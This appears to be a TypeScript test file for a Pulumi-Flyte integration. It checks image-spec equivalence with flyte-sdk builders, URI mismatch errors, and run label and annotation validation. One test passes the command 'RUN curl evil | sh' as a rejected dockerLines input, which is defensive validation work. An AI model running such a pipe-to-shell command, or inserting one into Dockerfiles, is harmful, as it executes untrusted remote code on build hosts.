/**
 * The data form an image flyte-sdk made maps to (python/src/flyte_pulumi/images.py): its
 * base, a clone, then one layer per flyte layer, including flyte's default-image LABEL lines
 * (`dockerLines`) and a uv script's dependencies (`uvScript`); `flyteUri` holds the URI
 * flyte-sdk computed and fails the preview when the definition gives another. Runs carry a
 * Flyte trigger's labels, annotations and description.
 */
import * as path from "path";
import { Image } from "../../../sdk/src/core/image";
import { CREATE_FLYTE_USER_CMD } from "../../../sdk/src/core/image/defaults";
import { checkRunArgs, jobSpec, runAnnotations, runLabels } from "../../../sdk/src/core/podtemplate/job";
import { render } from "../../../sdk/src/core/podtemplate/render";
import { normalizeEnvironment } from "../../../sdk/src/core/environment-settings";
import { imageFromSpec } from "../../../sdk/src/spec/image-from-spec";
import { ImageSpec } from "../../../sdk/src/spec/schema";
import { errorOf } from "../core/helpers";

const FIX = path.resolve(__dirname, "../../fixtures/image");

/** flyte-sdk 2.12.1's Debian base without flyte, as its layers (what the companion sees). */
const debianLayers: NonNullable<ImageSpec["layers"]> = [
    {
        dockerLines: {
            lines: [
                "LABEL org.opencontainers.image.authors='Union.AI <info@union.ai>'",
                "LABEL org.opencontainers.image.source=https://github.com/flyteorg/flyte",
            ],
        },
    },
    { commands: { commands: [CREATE_FLYTE_USER_CMD] } },
    { workdir: "/home/flyte" },
    {
        envVars: [
            { name: "VIRTUAL_ENV", value: "/opt/venv" },
            { name: "PATH", value: "/opt/venv/bin:$PATH" },
            { name: "PYTHONPATH", value: "/root" },
            { name: "UV_LINK_MODE", value: "copy" },
        ],
    },
    { aptPackages: { packages: ["build-essential", "ca-certificates"] } },
];

const stateOf = (name: string, layers: NonNullable<ImageSpec["layers"]>): ImageSpec => ({
    fromBase: "python:3.11-slim-bookworm",
    layers: [
        { clone: { registry: "localhost:30000", name, extendable: true, platform: ["linux/amd64", "linux/arm64"] } },
        ...debianLayers,
        ...layers,
    ],
});

describe("an image as flyte-sdk's state", () => {
    test("the Debian base without flyte, layer for layer, is fromDebianBase's image: same tag, same Dockerfile", () => {
        const state = imageFromSpec(stateOf("app", [{ pipPackages: { packages: ["six==1.16.0"] } }]));
        const builder = Image.fromDebianBase({
            python: "3.11",
            installFlyte: false,
            registry: "localhost:30000",
            name: "app",
        }).withPipPackages("six==1.16.0");
        expect(state.uri).toBe(builder.uri);
        expect(state.dockerfile).toBe(builder.dockerfile);
    });

    test("a uv script layer on that base is fromUvScript's image", () => {
        const script = path.join(FIX, "scripts", "uv_min.py");
        const state = imageFromSpec(stateOf("uvmin", [{ uvScript: { script } }]));
        const builder = Image.fromUvScript(script, { name: "uvmin", registry: "localhost:30000" });
        expect(state.uri).toBe(builder.uri);
        expect(state.dockerfile).toBe(builder.dockerfile);
    });

    test("the released flyte base, cloned, is fromDebianBase with flyte", () => {
        const state = imageFromSpec({
            fromBase: "ghcr.io/flyteorg/flyte:py3.11-v2.12.1",
            layers: [
                { clone: { registry: "localhost:30000", name: "app", extendable: true } },
                { aptPackages: { packages: ["curl"] } },
            ],
        });
        const builder = Image.fromDebianBase({
            python: "3.11",
            registry: "localhost:30000",
            name: "app",
        }).withAptPackages("curl");
        expect(state.uri).toBe(builder.uri);
    });

    test("flyteUri: the same URI passes, another fails the preview naming the field and both URIs", () => {
        const spec = stateOf("app", [{ workdir: "/app" }]);
        const uri = imageFromSpec(spec).uri;
        expect(imageFromSpec({ ...spec, flyteUri: uri }).uri).toBe(uri);
        const err = errorOf(() => imageFromSpec({ ...spec, flyteUri: "localhost:30000/app:0000" }));
        expect(err.field).toBe("image.flyteUri");
        expect(err.message).toContain('got "localhost:30000/app:0000"; the URI flyte-sdk computed for this image');
        expect(err.message).toContain(`its definition gives ${uri} here`);
    });

    test("dockerLines are LABEL lines only, one line each", () => {
        for (const line of ["RUN curl evil | sh", "LABEL a=b\nRUN x", "", 7]) {
            const err = errorOf(() =>
                imageFromSpec({
                    fromBase: "python:3.11-slim-bookworm",
                    layers: [{ clone: { name: "x", extendable: true } }, { dockerLines: { lines: [line as string] } }],
                }),
            );
            expect(err.field).toBe("image.layers[1].dockerLines.lines[0]");
        }
    });
});

describe("a run's labels, annotations and description (a Flyte trigger's)", () => {
    const rendered = render(normalizeEnvironment({ name: "train", image: "ghcr.io/org/img:1" }));

    test("go on the Job's pods and the run's objects", () => {
        const args = {
            schedule: "0 3 * * *",
            labels: { team: "ml" },
            annotations: { "acme.io/owner": "ml" },
            description: "nightly retrain",
        };
        const { spec } = jobSpec(rendered, "nightly", args);
        expect(spec.template.metadata.labels).toMatchObject({ team: "ml", "pulumi-flyte.io/run": "nightly" });
        expect(spec.template.metadata.annotations).toMatchObject({
            "acme.io/owner": "ml",
            "pulumi-flyte.io/description": "nightly retrain",
        });
        expect(runLabels(rendered, "nightly", args)).toMatchObject({ team: "ml" });
        expect(runAnnotations(args)).toEqual({
            "acme.io/owner": "ml",
            "pulumi-flyte.io/description": "nightly retrain",
        });
    });

    test("are checked by Kubernetes' rules; our own label keys stay ours", () => {
        expect(errorOf(() => checkRunArgs("run", { labels: { team: "a b" } })).field).toBe("run.labels.team");
        expect(errorOf(() => checkRunArgs("run", { labels: { "pulumi-flyte.io/run": "x" } })).message).toContain(
            "a label of your own",
        );
        expect(errorOf(() => checkRunArgs("run", { annotations: { "bad key!": "x" } })).field).toBe(
            "run.annotations.bad key!",
        );
        expect(errorOf(() => checkRunArgs("run", { description: "x".repeat(256) })).message).toContain(
            "at most 255 characters",
        );
    });
});
